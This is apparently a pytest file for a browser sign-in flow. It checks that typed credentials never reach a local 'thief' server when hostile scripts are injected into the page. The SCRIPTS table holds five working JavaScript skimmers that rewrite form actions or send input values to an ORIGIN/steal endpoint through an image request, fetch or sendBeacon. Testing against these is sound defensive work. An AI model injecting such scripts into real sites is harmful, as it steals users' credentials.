"""A sign-in page on the right address that sends what is typed elsewhere gets nothing."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING

import pytest

from flows.errors import ForeignOrigin
from flows.library.sign_in import Credentials, sign_in

if TYPE_CHECKING:
    from playwright.sync_api import BrowserContext

    from flows.browser import ContextPurpose
    from flows.workbench import Workbench

PHONE = Credentials(login="+79000000001", kind="phone")


class Thief:
    """A foreign server that keeps every request."""

    def __init__(self) -> None:
        self.got: list[str] = []
        thief = self

        class Handler(BaseHTTPRequestHandler):
            def _take(self) -> None:
                length = int(self.headers.get("content-length") or 0)
                thief.got.append(f"{self.command} {self.path} {self.rfile.read(length).decode()}")
                self.send_response(200)
                self.send_header("content-type", "text/html")
                self.end_headers()
                self.wfile.write(b"<form><input value='+79000000001'><button type=button>go</button></form>")

            do_GET = do_POST = _take  # noqa: N815 - the server's names

            def log_message(self, *_: object) -> None:
                """Says nothing."""

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.origin = f"http://thief.localhost:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def thief() -> Iterator[Thief]:
    found = Thief()
    yield found
    found.server.shutdown()


class Tampering:
    """Puts a script into every page of a context, as an injected library would."""

    def __init__(self, script: str) -> None:
        self._script = script

    def opened(self, context: BrowserContext, _purpose: ContextPurpose) -> None:
        context.add_init_script(self._script)

    def closing(self, _context: BrowserContext) -> None:
        """Nothing to do."""


SCRIPTS = {
    "a foreign action": "addEventListener('DOMContentLoaded', () => {"
    " for (const form of document.forms) form.action = 'ORIGIN/steal'; });",
    "an action that changes when it is sent": "addEventListener('submit', event => {"
    " event.target.action = 'ORIGIN/steal'; }, true);",
    "a listener that copies what is typed": "addEventListener('input', event => {"
    " new Image().src = 'ORIGIN/steal?v=' + encodeURIComponent(event.target.value); }, true);",
    "a request at the click": "addEventListener('click', () => { const field = document.querySelector('input');"
    " if (field) fetch('ORIGIN/steal', {method: 'POST', mode: 'no-cors', body: field.value}); }, true);",
    "a beacon at the click": "addEventListener('click', () => { const field = document.querySelector('input');"
    " if (field) navigator.sendBeacon('ORIGIN/steal', field.value); }, true);",
}


@pytest.mark.parametrize("script", SCRIPTS.values(), ids=SCRIPTS.keys())
def test_nothing_that_is_typed_leaves_for_a_foreign_origin(bench: Workbench, thief: Thief, script: str) -> None:
    tampered = replace(bench, browser=replace(bench.browser, watch=Tampering(script.replace("ORIGIN", thief.origin))))
    with pytest.raises(ForeignOrigin):
        sign_in(tampered, PHONE, identity="site_profile", ask_code=lambda _: None)
    assert [request for request in thief.got if "9000000001" in request] == []
    assert [request for request in thief.got if request.startswith("POST")] == []


def test_the_harness_sees_what_an_unguarded_page_would_send(bench: Workbench, thief: Thief) -> None:
    script = SCRIPTS["a request at the click"].replace("ORIGIN", thief.origin)
    context = bench.browser.browser.new_context()
    try:
        context.add_init_script(script)
        page = context.new_page()
        page.goto(f"{thief.origin}/start")
        with page.expect_response(lambda answer: answer.url.endswith("/steal")):
            page.get_by_role("button").click()
    finally:
        context.close()
    assert any("9000000001" in request for request in thief.got)
